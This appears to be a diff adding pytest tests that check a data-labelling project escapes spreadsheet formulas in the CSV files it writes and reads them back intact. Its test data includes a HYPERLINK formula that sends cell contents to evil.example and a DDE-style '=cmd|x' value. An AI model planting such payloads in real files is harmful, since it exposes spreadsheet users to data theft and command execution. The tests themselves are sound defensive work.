@@ -1,0 +1,185 @@
+"""Attacks by cells: what a spreadsheet would run is text, and the project reads it back as it was."""
+
+import ast
+import csv
+import io
+import zipfile
+from pathlib import Path
+from types import SimpleNamespace
+
+import numpy as np
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from components.label_issues import Judged, write_label_issues
+from data.importers.importing import import_photos
+from data.importers.tables import import_table
+from data.spans.corrections import read_corrections
+from data.spans.layout import find_spans
+from data.spans.served import read_served
+from edgeline.cli import predict
+from edgeline.cli.main import main
+from edgeline.prediction.inputs import Input
+from edgeline.runtime import Answer
+from edgeline.tables.sheets import mark_cell, read_rows, unmark_cell, write_rows
+from pipeline.workloads import find_workload, with_features
+from runners.suggest import listing
+from runners.suggest.examples import Candidate, Pool
+from runners.suggest.suggestions import Suggestions
+from tests.data.sample_photos import jpeg
+
+ROOT = Path(__file__).parents[2]
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+# The files that write tables for programs: spans, and what a source is converted to.
+OF_DATA = {
+    "data/importers/phone.py",
+    "data/importers/tables.py",
+    "data/photos/labels_file.py",
+    "data/reviews/generator.py",
+    "edgeline/tables/typed_rows.py",
+    "runners/drill/fleet.py",
+    "runners/drill/photos.py",
+}
+
+
+def list_formulas(text):
+    """Returns the cells that a spreadsheet runs when it opens the file."""
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    return [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n")) and not is_number(cell)]
+
+
+def is_number(cell):
+    try:
+        return bool(float(cell) or True)
+    except ValueError:
+        return False
+
+
+@pytest.mark.parametrize(
+    "cell", [FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "\uff1d1", "-", "-inf"]
+)
+def test_a_cell_that_a_spreadsheet_would_run_is_marked_and_read_as_it_was(cell):
+    assert mark_cell(cell) == f"'{cell}" and unmark_cell(f"'{cell}") == cell
+
+
+@pytest.mark.parametrize("cell", ["-1.5", "+49", "-1,5", "-3e-7", "'tis", "a=b", "", "''"])
+def test_numbers_and_words_are_not_marked(cell):
+    assert mark_cell(cell) == unmark_cell(cell) == cell
+
+
+@given(st.lists(st.text(st.sampled_from("'=+-@\t\n\r1.,e;\"ab\uff1d")), min_size=1))
+@example(["\r"])
+def test_any_cells_come_back_from_a_sheet_and_none_is_a_formula(tmp_path_factory, cells):
+    path = tmp_path_factory.mktemp("sheet") / "a.csv"
+    header = [f"c{number}" for number in range(len(cells))]
+    with path.open("w", encoding="utf-8", newline="") as file:
+        write_rows(file, [header, cells])
+    assert list_formulas(path.read_text("utf-8")) == []
+    assert read_rows(path) == [dict(zip(header, cells, strict=True))]
+
+
+def test_only_tables_of_data_are_written_beside_the_writer_of_sheets():
+    writers = set()
+    for room in ("edgeline", "components", "data", "pipeline", "runners", "trainer_module"):
+        for path in (ROOT / room).rglob("*.py"):
+            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
+                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv"):
+                    writers.add(path.relative_to(ROOT).as_posix())
+    assert writers == OF_DATA | {"edgeline/tables/sheets.py"}
+
+
+def test_a_list_of_suspects_runs_nothing_and_is_taken_back_with_labels_that_begin_like_formulas(
+    tmp_path, monkeypatch
+):
+    rows = "".join(f"{number % 7 * 1.5},{('=ok', '-bad')[number % 2]}\n" for number in range(40))
+    (tmp_path / "t.csv").write_text("heat,state\n" + rows)
+    import_table(tmp_path / "t.csv", tmp_path / "data", "state")
+    workload = with_features(find_workload(str(tmp_path / "data" / "workload.yaml")))
+    labels = [workload.labels.index(label) for label in ("=ok", "-bad")]
+    likely = np.eye(len(workload.labels))[labels[::-1]]
+    names = ["span-00001/table.csv:2", "span-00001/table.csv:3"]
+    judged = Judged("cross-validation", "train", names, np.array(labels), likely)
+    monkeypatch.setattr("components.label_issues.write_previews", lambda *_: {})  # which need TFX's examples
+    write_label_issues(tmp_path, None, [judged], (), workload)
+
+    path = tmp_path / "label_issues.csv"
+    assert list_formulas(path.read_text("utf-8")) == []
+    listed = read_rows(path)
+    assert {(row["label"], row["suggested"]) for row in listed} == {("=ok", "-bad"), ("-bad", "=ok")}
+    # A person writes the suggested label where it belongs, as the list shows it.
+    with path.open(newline="", encoding="utf-8") as file:
+        header, *cells = csv.reader(file)
+    with path.open("w", newline="", encoding="utf-8") as file:
+        csv.writer(file).writerows([header, *([*row[:-1], row[2]] for row in cells)])
+    relabel = ["data", "relabel", str(path), "--data", str(tmp_path / "data"), "--reason", "looked"]
+    assert main([*relabel, "--workload", str(tmp_path / "data" / "workload.yaml")]) == 0
+    corrections = read_corrections(find_spans(tmp_path / "data")[0])
+    assert {(item.was, item.label) for item in corrections.values()} == {("=ok", "-bad"), ("-bad", "=ok")}
+
+
+def test_answers_run_nothing(capsys):
+    answer = Answer(np.zeros((1, 1)), {"int8": np.array([[0.25, 0.75]], np.float32)}, ("ok", "=cmd|x"))
+    models = {"int8": SimpleNamespace(has_unlike=False)}
+    bundle = SimpleNamespace(labels=("ok", "=cmd|x"), models=models)
+    answers = [(Input(FORMULA), answer), (Input("-x.jpg", problem="@It is no photo."), None)]
+    assert predict._print_csv(answers, bundle) == 1
+    out = capsys.readouterr().out
+    assert list_formulas(out) == [] and "'=cmd|x" in out and "\r" not in out
+
+
+def test_suggestions_run_nothing_and_are_imported_with_the_texts_that_the_source_had(tmp_path):
+    texts = [f"{FORMULA} {number}" for number in range(12)] + ["'=quoted", "-1.5", "'tis"]
+    scores = {"int8": np.array([[0.4, 0.6]], np.float32)}
+    answer = Answer(np.zeros((1, 1)), scores, ("dark", "bright"))
+    candidates = [
+        Candidate(f"a.csv:{number}", {"body": text, "=x": "1"}, answer, text, str(number), None)
+        for number, text in enumerate(texts)
+    ]
+    workload = SimpleNamespace(
+        name="t", label_column="label", noun="text", nouns="texts", labels=("dark", "bright")
+    )
+    pool = Pool(candidates=candidates)
+    suggested = Suggestions(candidates, [], pool, False, 0, None, "", workload, 1, "int8")
+    path = listing.write(suggested, tmp_path / "out")
+
+    assert list_formulas(path.read_text("utf-8")) == []
+    filled = [{**row, "label": ("dark", "bright")[at % 2]} for at, row in enumerate(read_rows(path))]
+    with path.open("w", newline="", encoding="utf-8") as file:
+        write_rows(file, [filled[0], *(row.values() for row in filled)])
+    import_table(path, tmp_path / "data", "label", text="body")
+    (span,) = find_spans(tmp_path / "data")
+    with (span.path / "texts.csv").open(newline="", encoding="utf-8") as file:
+        assert [row["text"] for row in csv.DictReader(file)] == texts
+
+
+def test_a_list_of_suggested_photos_finds_the_photo_whose_name_begins_like_a_formula(tmp_path):
+    (tmp_path / "=1.jpg").write_bytes(jpeg())
+    header = ("photo", "label", "place", "said", "score", "margin", "version", "variant", "chosen")
+    with (tmp_path / "suggestions.csv").open("w", newline="", encoding="utf-8") as file:
+        write_rows(file, [header, ("=1.jpg", "ok", "=1.jpg", "ok", 0.5, 0.1, 1, "int8", "useful")])
+    assert dict(import_photos(tmp_path / "suggestions.csv", tmp_path / "data").added) == {"ok": 1}
+
+
+def test_an_export_of_a_phone_that_marks_formulas_is_imported_without_the_marks(tmp_path):
+    text, served = FORMULA, io.StringIO(newline="")
+    columns = ("example", "version", "variant", "said", "score", "captured_at", "device", "chosen")
+    row = ("texts.csv:2", 1, "fp16", "=ok", 0.9, "2026-10-05T09:12:33Z", "=phone", "person")
+    write_rows(served, [columns, row])
+    texts = io.StringIO(newline="")
+    write_rows(texts, [("text", "label", "source", "group"), (text, "negative", "=phone", "d")])
+    assert list_formulas(served.getvalue() + texts.getvalue()) == []
+    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
+        archive.writestr("release.json", '{"model": "text", "device": "d"}')
+        archive.writestr("served.csv", served.getvalue())
+        archive.writestr("texts.csv", texts.getvalue())
+    for _ in range(2):  # the second time, nothing is new
+        assert main(["data", "import", str(tmp_path / "a.zip"), "--data", str(tmp_path / "data")]) == 0
+    (span,) = find_spans(tmp_path / "data")
+    with (span.path / "texts.csv").open(newline="", encoding="utf-8") as file:
+        assert list(csv.DictReader(file)) == [
+            {"text": text, "label": "negative", "source": "=phone", "group": "d"}
+        ]
+    (answer,) = read_served(span)
+    assert (answer.said, answer.device) == ("=ok", "=phone")
+    assert list_formulas((span.path / "served.csv").read_text()) == []
